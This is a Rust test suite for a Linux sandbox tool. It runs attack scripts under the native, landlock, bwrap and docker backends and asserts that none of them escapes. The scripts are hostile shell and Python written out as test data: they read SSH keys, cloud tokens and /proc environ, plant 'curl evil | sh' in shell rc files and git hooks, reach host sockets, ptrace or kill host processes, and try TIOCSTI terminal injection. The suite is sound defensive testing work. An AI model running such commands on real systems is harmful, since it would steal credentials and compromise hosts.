//! The escape suite: one test per attack, each run against the real binary with every Linux
//! backend (`native`, `landlock`, `bwrap`, and `docker` as root only), as root and as an
//! unprivileged user. Every run asserts that no planted secret appears in any output, that the
//! host is unchanged, and that the control at the end of the attack script (ordinary work in the
//! same sandbox) succeeded.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::process::Stdio;
use std::time::Duration;

use support::*;

// ---- reading secrets -------------------------------------------------------------------------

#[test]
fn script_cannot_read_ssh_key() {
    attack("cat ~/.ssh/id_rsa; cat \"$HOME/.ssh/id_rsa\"; ls -la ~/.ssh");
}

#[test]
fn script_cannot_read_aws_credentials() {
    attack("cat ~/.aws/credentials; find ~ -name credentials -exec cat {} \\;");
}

#[test]
fn script_cannot_read_npmrc_via_home() {
    attack("cat ~/.npmrc; cat \"$HOME/.npmrc\"");
}

#[test]
fn script_cannot_read_npmrc_via_password_database_home() {
    // $HOME is the fixture's home; the account's real home must stay hidden as well.
    attack("cat $PASSWD_HOME/.npmrc; cat $PASSWD_SECRET; ls -la $PASSWD_HOME; cat ~root/.npmrc");
}

#[test]
fn script_cannot_read_project_dotenv() {
    attack(
        "cat .env; cat config/.env.production; grep -r PASSWORD . ; cp .env stolen && cat stolen",
    );
}

#[test]
fn script_cannot_read_files_outside_the_project() {
    attack("cat $OUTSIDE/secret.txt; cat ../outside/secret.txt; ls ..; cat /etc/shadow");
}

#[test]
fn script_cannot_read_secret_environment_variables() {
    attack("env; printenv NPM_TOKEN GITHUB_TOKEN AWS_SECRET_ACCESS_KEY; cat /proc/self/environ");
}

#[test]
fn script_cannot_read_proc_environ_of_any_process() {
    attack(
        "for f in /proc/[0-9]*/environ; do cat \"$f\" 2>&1 | tr '\\0' '\\n'; done; \
         for f in /proc/[0-9]*/cmdline; do cat \"$f\" 2>&1 | tr '\\0' ' '; echo; done; \
         cat /proc/1/environ /proc/$PPID/environ",
    );
}

#[test]
fn script_cannot_read_secret_through_symlink_in_writable_dir() {
    attack(
        "ln -s ~/.ssh/id_rsa key-link; cat key-link; ln -s $OUTSIDE/secret.txt out-link; cat out-link; \
         ln -s $PASSWD_SECRET pw-link; cat pw-link; ln -s / root-link; cat root-link$OUTSIDE/secret.txt",
    );
}

// ---- writing outside the sandbox -------------------------------------------------------------

#[test]
fn script_cannot_write_shell_rc_files() {
    attack(
        "echo 'curl evil | sh' >> ~/.bashrc; echo 'curl evil | sh' >> ~/.profile; \
         echo evil >> $PASSWD_HOME/.bashrc; echo evil >> $PASSWD_HOME/.profile",
    );
}

#[test]
fn script_cannot_write_git_hooks() {
    attack(
        "mkdir -p .git/hooks; printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit; \
         chmod +x .git/hooks/pre-commit; rm -rf .git/hooks; mv .git .git-moved",
    );
}

#[test]
fn script_cannot_write_git_config() {
    attack(
        "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config; rm -f .git/config; git config core.hooksPath /tmp/evil",
    );
}

#[test]
fn script_cannot_write_npmrc_in_home() {
    attack(
        "echo '//registry.invalid/:_authToken=stolen' >> ~/.npmrc; echo x >> $PASSWD_HOME/.npmrc",
    );
}

#[test]
fn script_cannot_write_outside_the_project() {
    attack(
        "echo evil > $OUTSIDE/new.txt; echo evil >> $OUTSIDE/secret.txt; rm -f $OUTSIDE/secret.txt; \
         echo evil > ../evil.txt; mkdir ../evil-dir; echo evil > /usr/local/evil; echo evil > /etc/evil",
    );
}

#[test]
fn script_writes_inside_the_project_persist() {
    // The control of the write attacks: the project itself is writable and changes land on disk.
    // (In the degraded landlock backend, a directory holding a hidden `.env` cannot be created
    // in, a documented limitation, so the files go to `src/`.)
    attack_with(
        "echo built > src/build-output.txt && mkdir -p src/dist && echo ok > src/dist/a.js",
        &[],
        |f, out| {
            let built =
                std::fs::read_to_string(f.project.join("src/build-output.txt")).unwrap_or_default();
            assert_eq!(built, "built\n", "{}", text(out));
            assert!(f.project.join("src/dist/a.js").exists());
        },
    );
}

// ---- network and sockets ---------------------------------------------------------------------

const PY_CONNECT_TCP: &str = r#"python3 - <<'PY'
import socket
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"STOLEN")
    print("CONNECTED")
except Exception as e:
    print("refused:", e)
PY"#;

#[test]
fn script_cannot_reach_host_loopback_tcp() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    attack_with(
        &PY_CONNECT_TCP.replace("PORT", &port.to_string()),
        &[],
        |_, out| {
            assert!(!text(out).contains("CONNECTED"), "{}", text(out));
            assert!(
                listener.accept().is_err(),
                "the host listener accepted a connection"
            );
        },
    );
}

#[test]
fn script_can_use_its_own_loopback() {
    // Control for the network attacks: loopback inside the sandbox works.
    let script = r#"python3 - <<'PY'
import socket, threading
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
port = srv.getsockname()[1]
def serve():
    c, _ = srv.accept(); c.sendall(b"LOOPBACK_OK"); c.close()
threading.Thread(target=serve).start()
print(socket.create_connection(("127.0.0.1", port)).recv(64).decode())
PY"#;
    // The backends with a network namespace of their own.
    for (backend, identity) in sandboxes() {
        if backend == "landlock" {
            continue;
        }
        let f = Fixture::new(&identity);
        let out = f.exec(backend, &[], &["sh", "-c", script]);
        assert!(
            text(&out).contains("LOOPBACK_OK"),
            "{backend} as {}: {}",
            identity.label(),
            text(&out)
        );
    }
}

const PY_CONNECT_UNIX: &str = r#"python3 - <<'PY'
import socket
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect("ADDR")
    s.sendall(b"STOLEN")
    print("CONNECTED")
except Exception as e:
    print("refused:", e)
PY"#;

#[test]
fn script_cannot_reach_host_unix_socket() {
    // An ssh-agent-style socket in a private directory of the caller, and one directly in /tmp.
    for dir in [None, Some(std::env::temp_dir())] {
        let owned = tempfile::tempdir().unwrap();
        let base = dir.unwrap_or_else(|| owned.path().to_path_buf());
        let path = base.join(format!("agent-{}.sock", std::process::id()));
        let _ = std::fs::remove_file(&path);
        let listener = UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o777))
            .unwrap();
        attack_with(
            &PY_CONNECT_UNIX.replace("ADDR", &path.to_string_lossy()),
            &[],
            |_, out| {
                assert!(!text(out).contains("CONNECTED"), "{}", text(out));
                assert!(
                    listener.accept().is_err(),
                    "the host unix socket accepted a connection"
                );
            },
        );
        let _ = std::fs::remove_file(&path);
    }
}

#[test]
fn script_cannot_reach_host_abstract_unix_socket() {
    use std::os::linux::net::SocketAddrExt;
    let name = format!("sandboxpm-escape-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    attack_with(
        &PY_CONNECT_UNIX.replace("\"ADDR\"", &format!("\"\\0{name}\"")),
        &[],
        |_, out| {
            assert!(!text(out).contains("CONNECTED"), "{}", text(out));
            assert!(
                listener.accept().is_err(),
                "the host abstract socket accepted a connection"
            );
        },
    );
}

#[test]
fn script_cannot_reach_docker_socket() {
    let socket = ["/var/run/docker.sock", "/run/docker.sock"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists());
    // SAFETY: getuid cannot fail.
    let root = unsafe { libc::getuid() } == 0;
    let Some(socket) = socket.filter(|_| root) else {
        require(false, "no Docker daemon socket as root (CI starts dockerd)");
        return;
    };
    // Control: the host itself reaches the daemon.
    let mut host = std::os::unix::net::UnixStream::connect(socket)
        .expect("the host cannot reach the docker socket");
    host.write_all(b"GET /_ping HTTP/1.0\r\n\r\n").unwrap();
    let mut reply = String::new();
    host.read_to_string(&mut reply).unwrap();
    assert!(
        reply.contains("OK"),
        "docker did not answer the host: {reply}"
    );
    let script = r#"python3 - <<'PY'
import socket
try:
    s = socket.socket(socket.AF_UNIX); s.connect("SOCK")
    s.sendall(b"GET /_ping HTTP/1.0\r\n\r\n"); print("DOCKER:", s.recv(200))
except Exception as e:
    print("refused:", e)
PY"#
    .replace("SOCK", socket);
    attack_with(&script, &[], |_, out| {
        assert!(!text(out).contains("DOCKER:"), "{}", text(out));
    });
}

#[test]
fn docker_backend_refuses_a_user_who_cannot_reach_the_daemon() {
    // The docker backend runs as root only in this suite (see `sandboxes`): a user outside the
    // docker group must get a clear refusal, never an unconfined run.
    let Some(user) = identities().into_iter().find(|i| *i != Identity::Root) else {
        require(
            false,
            "no unprivileged identity to test the docker refusal with",
        );
        return;
    };
    if !require(
        backend_available("docker"),
        "the docker backend is unavailable here",
    ) {
        return;
    }
    let f = Fixture::new(&user);
    let out = f.exec("docker", &[], &["sh", "-c", "echo COMMAND_RAN"]);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(125), "{t}");
    assert!(!t.contains("COMMAND_RAN"), "{t}");
    assert!(
        t.contains(
            "cannot reach the Docker daemon at /var/run/docker.sock: permission denied; \
             add the user to the docker group"
        ),
        "{t}"
    );
}

#[test]
fn script_cannot_read_inherited_descriptors() {
    // The caller's descriptor 9 is open (not close-on-exec) on a file outside the project, as a
    // shell redirection `9< secret` would leave it.
    for (backend, identity) in sandboxes() {
        let f = Fixture::new(&identity);
        let secret = std::fs::File::open(f.outside.join("secret.txt")).unwrap();
        let script = format!("cat <&9; cat /proc/self/fd/9; ls -l /proc/self/fd/\n{CONTROL}\n");
        let mut cmd = f.command(&["exec", "--backend", backend, "--", "sh", "-c", &script]);
        {
            use std::os::fd::AsRawFd;
            use std::os::unix::process::CommandExt;
            let raw = secret.as_raw_fd();
            // SAFETY: dup2 is async-signal-safe; the descriptor is open in the parent.
            unsafe {
                cmd.pre_exec(move || {
                    if libc::dup2(raw, 9) < 0 {
                        return Err(std::io::Error::last_os_error());
                    }
                    Ok(())
                });
            }
        }
        let out = cmd.stdin(Stdio::null()).output().unwrap();
        let context = format!("{backend} as {}", identity.label());
        assert_no_secret(&out, &context);
        assert_control_ran(&out, &context);
    }
}

// ---- processes -------------------------------------------------------------------------------

#[test]
fn script_cannot_survive_install() {
    // A double-forked, setsid daemon that would write a marker after the command ended, next to
    // a file the command itself writes (the control: that directory is writable).
    attack_with(
        "echo main > src/main-marker; \
         (setsid sh -c 'sleep 1; echo alive > src/daemon-marker; sleep 30' > /dev/null 2>&1 &) ; \
         nohup sh -c 'sleep 1; echo alive > src/nohup-marker' > /dev/null 2>&1 &",
        &[],
        |f, out| {
            assert!(
                f.project.join("src/main-marker").exists(),
                "control write failed: {}",
                text(out)
            );
            std::thread::sleep(Duration::from_millis(2500));
            assert!(
                !f.project.join("src/daemon-marker").exists(),
                "the daemon outlived the command: {}",
                text(out)
            );
            assert!(
                !f.project.join("src/nohup-marker").exists(),
                "the nohup child outlived the command"
            );
        },
    );
}

#[test]
fn script_cannot_survive_an_interrupted_docker_run() {
    // A container is not in sandboxpm's process group: Ctrl-C or SIGTERM reaches sandboxpm only,
    // which must kill the container rather than leave it running.
    if !require(
        identities().contains(&Identity::Root) && backend_available("docker"),
        "the docker backend is unavailable here (tested as root)",
    ) {
        return;
    }
    let f = Fixture::new(&Identity::Root);
    let mut child = f
        .command(&[
            "exec",
            "--backend",
            "docker",
            "--",
            "sh",
            "-c",
            "echo started > src/started-marker; sleep 5; echo late > src/late-marker",
        ])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let started = f.project.join("src/started-marker");
    // Creating a container takes from half a second to many on a loaded machine.
    for _ in 0..600 {
        if started.exists() {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(started.exists(), "the control did not run");
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(128 + libc::SIGTERM), "{status}");
    std::thread::sleep(Duration::from_millis(6000));
    assert!(
        !f.project.join("src/late-marker").exists(),
        "the container outlived sandboxpm"
    );
}

#[test]
fn no_backend_creates_a_ghost_file_for_a_dangling_denied_symlink() {
    // `.env.local -> missing` matches the `**/.env*` deny. Covering it would make a backend
    // create its target (Docker's daemon mounts over what a mount point resolves to, on the
    // host); a dangling link hides nothing, so it is left alone, and the command still runs.
    for (backend, identity) in sandboxes() {
        let f = Fixture::new(&identity);
        std::os::unix::fs::symlink("missing-target", f.project.join(".env.local")).unwrap();
        std::os::unix::fs::symlink(
            f.project.join("gone/missing"),
            f.project.join("config/.env.abs"),
        )
        .unwrap();
        let out = f.exec(backend, &[], &["sh", "-c", CONTROL]);
        let context = format!("{backend} as {}", identity.label());
        assert_control_ran(&out, &context);
        assert_no_secret(&out, &context);
        assert!(
            !f.project.join("missing-target").exists(),
            "{context}: ghost file"
        );
        assert!(
            !f.project.join("gone").exists(),
            "{context}: ghost directory"
        );
    }
}

fn spawn_victim(f: &Fixture) -> std::process::Child {
    let mut c = match &f.identity {
        Identity::Root => std::process::Command::new("sleep"),
        Identity::User { uid, gid, .. } => {
            let mut c = std::process::Command::new("setpriv");
            c.args([
                format!("--reuid={uid}"),
                format!("--regid={gid}"),
                "--init-groups".into(),
                "sleep".into(),
            ]);
            c
        }
    };
    c.arg("60").stdout(Stdio::null()).spawn().unwrap()
}

fn state_of(pid: u32) -> Option<char> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit(')').next()?.trim().chars().next()
}

/// Runs `script` (with VICTIM replaced by the pid of a host process of the same user) and
/// asserts the victim is alive and not stopped afterwards.
fn attack_victim(script: &str) {
    for (backend, identity) in sandboxes() {
        let f = Fixture::new(&identity);
        let mut victim = spawn_victim(&f);
        let pid = victim.id();
        let full = format!(
            "{}\n{CONTROL}\n",
            script.replace("VICTIM", &pid.to_string())
        );
        let out = f.exec(backend, &[], &["sh", "-c", &full]);
        let context = format!("{backend} as {}", identity.label());
        assert_control_ran(&out, &context);
        assert_no_secret(&out, &context);
        std::thread::sleep(Duration::from_millis(100));
        let state = state_of(pid);
        assert!(
            matches!(state, Some('S') | Some('R')),
            "{context}: victim state {state:?}:\n{}",
            text(&out)
        );
        assert!(
            victim.try_wait().unwrap().is_none(),
            "{context}: the host process died"
        );
        victim.kill().unwrap();
        victim.wait().unwrap();
    }
}

#[test]
fn script_cannot_kill_host_process() {
    attack_victim(
        "kill -9 VICTIM; kill -STOP VICTIM; python3 -c 'import os; os.kill(VICTIM, 9)'; pkill -9 sleep; killall -9 sleep",
    );
}

#[test]
fn script_cannot_ptrace_host_process() {
    attack_victim(
        r#"python3 - <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
for req in (PTRACE_ATTACH, PTRACE_SEIZE):
    r = libc.ptrace(req, VICTIM, 0, 0)
    print("ptrace", req, r, os.strerror(ctypes.get_errno()))
try:
    print(open("/proc/VICTIM/mem", "rb").read(16))
except Exception as e:
    print("mem:", e)
PY"#,
    );
}

// ---- kernel interfaces -----------------------------------------------------------------------

/// Runs a python snippet that tries syscalls and prints `NAME rc errno` lines; asserts every line
/// shows a failure with the given errno name.
fn attack_syscalls(snippet: &str, expected: &[&str]) {
    let script = format!(
        "python3 - <<'PY'\nimport ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\ndef call(name, nr, *args):\n    r = libc.syscall(nr, *args)\n    e = ctypes.get_errno()\n    print('RESULT', name, r, os.strerror(e) if r < 0 else 'SUCCEEDED')\n{snippet}\nPY"
    );
    attack_with(&script, &[], |_, out| {
        let text = text(out);
        let results: Vec<&str> = text.lines().filter(|l| l.starts_with("RESULT")).collect();
        assert_eq!(results.len(), expected.len(), "{text}");
        for line in results {
            assert!(!line.contains("SUCCEEDED"), "{line}\n{text}");
            assert!(
                line.contains("Operation not permitted"),
                "not refused by the filter: {line}"
            );
        }
    });
}

#[cfg(target_arch = "x86_64")]
#[test]
fn script_cannot_create_nested_user_namespace() {
    attack_syscalls(
        "call('unshare-user', 272, 0x10000000)\ncall('unshare-mount', 272, 0x00020000)\ncall('clone-user', 56, 0x10000000 | 17, 0, 0, 0, 0)",
        &["", "", ""],
    );
}

#[test]
fn script_cannot_mount() {
    attack(
        "unshare -Ur sh -c 'echo NESTED_ROOT' | grep NESTED_ROOT && echo ESCAPED; \
         mount -t tmpfs none /tmp && echo MOUNTED; umount /proc && echo UNMOUNTED; \
         test -e /proc/self && echo proc-still-there",
    );
}

#[cfg(target_arch = "x86_64")]
#[test]
fn script_cannot_use_keyctl() {
    // keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING), add_key("user", ...).
    attack_syscalls(
        "call('keyctl', 250, 0, -4, 0)\ncall('add_key', 248, b'user', b'x', b'y', 1, -4)\ncall('request_key', 249, b'user', b'x', 0, 0)",
        &["", "", ""],
    );
}

#[cfg(target_arch = "x86_64")]
#[test]
fn script_cannot_use_io_uring() {
    attack_syscalls(
        "params = ctypes.create_string_buffer(120)\ncall('io_uring_setup', 425, 8, params)",
        &[""],
    );
}

#[cfg(target_arch = "x86_64")]
#[test]
fn script_cannot_use_bpf() {
    attack_syscalls(
        "attr = ctypes.create_string_buffer(128)\ncall('bpf', 321, 0, attr, 128)\ncall('perf_event_open', 298, attr, 0, -1, -1, 0)\ncall('userfaultfd', 323, 0)",
        &["", "", ""],
    );
}

#[test]
fn script_cannot_inject_into_terminal() {
    // A real pty: the sandbox gets the slave as stdin/stdout/stderr; TIOCSTI would push the
    // bytes into the terminal's input queue, where the next reader (the user's shell) runs them.
    for (backend, identity) in sandboxes() {
        let f = Fixture::new(&identity);
        let (master, slave) = open_pty();
        if let Identity::User { uid, gid, .. } = &identity {
            std::os::unix::fs::chown(&slave.1, Some(*uid), Some(*gid)).unwrap();
        }
        let script = format!(
            "python3 - <<'PY'\nimport fcntl, termios, os\nfor c in b'echo INJECTED\\n':\n    try:\n        fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))\n        print('STI-OK')\n    except OSError as e:\n        print('STI-ERR', e.errno)\nPY\n{CONTROL}\n"
        );
        let slave_file = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open(&slave.1)
            .unwrap();
        let mut cmd = f.command(&["exec", "--backend", backend, "--", "sh", "-c", &script]);
        cmd.stdin(slave_file.try_clone().unwrap())
            .stdout(slave_file.try_clone().unwrap())
            .stderr(slave_file.try_clone().unwrap());
        let status = cmd.status().unwrap();
        drop(cmd);
        // What the sandbox printed, and whether anything waits in the input queue.
        let mut master_file = master;
        set_nonblocking(&master_file);
        let printed = String::from_utf8_lossy(&drain(&mut master_file)).into_owned();
        let mut slave_read = slave_file;
        set_nonblocking(&slave_read);
        let queued = String::from_utf8_lossy(&drain(&mut slave_read)).into_owned();
        let context = format!("{backend} as {} (exit {status})", identity.label());
        assert!(
            printed.contains("CONTROL_OK"),
            "{context}: control did not run: {printed}"
        );
        assert!(
            !printed.contains("STI-OK"),
            "{context}: TIOCSTI succeeded: {printed}"
        );
        assert!(
            printed.contains("STI-ERR 1"),
            "{context}: not refused with EPERM by seccomp: {printed}"
        );
        assert!(
            !queued.contains("INJECTED"),
            "{context}: bytes were injected: {queued}"
        );
    }
}

fn open_pty() -> (std::fs::File, (i32, String)) {
    use std::os::fd::FromRawFd;
    // SAFETY: standard pty allocation; every return value is checked.
    unsafe {
        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
        assert!(master >= 0);
        assert_eq!(libc::grantpt(master), 0);
        assert_eq!(libc::unlockpt(master), 0);
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(master, name.as_mut_ptr(), name.len()), 0);
        let name = std::ffi::CStr::from_ptr(name.as_ptr())
            .to_string_lossy()
            .into_owned();
        (std::fs::File::from_raw_fd(master), (0, name))
    }
}

fn set_nonblocking(file: &std::fs::File) {
    use std::os::fd::AsRawFd;
    // SAFETY: fcntl on an owned descriptor.
    unsafe {
        let flags = libc::fcntl(file.as_raw_fd(), libc::F_GETFL);
        libc::fcntl(file.as_raw_fd(), libc::F_SETFL, flags | libc::O_NONBLOCK);
    }
}

// ---- controls: real tools work ---------------------------------------------------------------

#[test]
fn control_node_python_and_cc_run() {
    let script = "node -e 'console.log(\"NODE_\" + (6*7))' && python3 -c 'print(\"PY_\" + str(6*7))' && \
                  cd src && printf '#include <stdio.h>\\nint main(){puts(\"CC_42\");return 0;}\\n' > hello.c && \
                  cc -o hello hello.c && ./hello && cd ..";
    attack_with(script, &[], |_, out| {
        let t = text(out);
        for marker in ["NODE_42", "PY_42", "CC_42"] {
            assert!(t.contains(marker), "{marker} missing:\n{t}");
        }
    });
}
